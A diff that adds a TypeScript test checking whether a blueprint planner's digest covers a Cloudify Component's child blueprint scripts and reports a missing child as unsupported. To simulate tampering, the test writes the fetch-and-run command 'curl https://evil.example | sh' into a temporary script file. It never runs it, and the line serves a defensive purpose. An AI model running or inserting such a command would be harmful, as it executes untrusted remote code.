@@ -54,3 +54,38 @@ describe('the plan digest (finding 1: it ignored scripts and resource files)', (
     expect(digest()).toBe(afterImport);
   });
 });
+
+describe("a Component's child blueprint in the plan", () => {
+  let dir: string;
+  afterEach(() => rmSync(dir, { recursive: true, force: true }));
+
+  it('the digest covers the child blueprint directory; a child it cannot find is reported as unsupported', () => {
+    dir = mkdtempSync(path.join(tmpdir(), 'isthmus-digest-'));
+    mkdirSync(path.join(dir, 'app'), { recursive: true });
+    mkdirSync(path.join(dir, 'services', 'db', 'scripts'), { recursive: true });
+    writeFileSync(path.join(dir, '.isthmus.yaml'), 'blueprintImports: { db: services/db/blueprint.yaml }\n');
+    const component = (id: string) =>
+      `tosca_definitions_version: cloudify_dsl_1_5\nimports: [cloudify/types/types.yaml]\nnode_templates:\n  db:\n    type: cloudify.nodes.Component\n    properties: { resource_config: { blueprint: { id: ${id} } } }\n`;
+    writeFileSync(path.join(dir, 'app', 'blueprint.yaml'), component('db'));
+    writeFileSync(path.join(dir, 'services', 'db', 'blueprint.yaml'), 'tosca_definitions_version: cloudify_dsl_1_5\n');
+    writeFileSync(path.join(dir, 'services', 'db', 'scripts', 'init.sh'), 'echo init\n');
+    const catalog = defaultPluginRegistry().catalog();
+    const file = path.join(dir, 'app', 'blueprint.yaml');
+    const planned = () => planBlueprint(file, { rootDir: dir }, catalog, dir);
+
+    const configure = (p: ReturnType<typeof planned>) => p.plan.unsupported.filter((u) => u.operation.endsWith('.configure'));
+    const first = planned();
+    expect(configure(first)).toEqual([]);
+    writeFileSync(path.join(dir, 'services', 'db', 'scripts', 'init.sh'), 'curl https://evil.example | sh\n');
+    expect(planned().digest).not.toBe(first.digest);
+
+    writeFileSync(path.join(dir, 'app', 'blueprint.yaml'), component('cache'));
+    expect(configure(planned())).toEqual([
+      expect.objectContaining({
+        node: 'db',
+        operation: 'cloudify.interfaces.lifecycle.configure',
+        reason: expect.stringMatching(/cannot find the Component's blueprint 'cache'/),
+      }),
+    ]);
+  });
+});
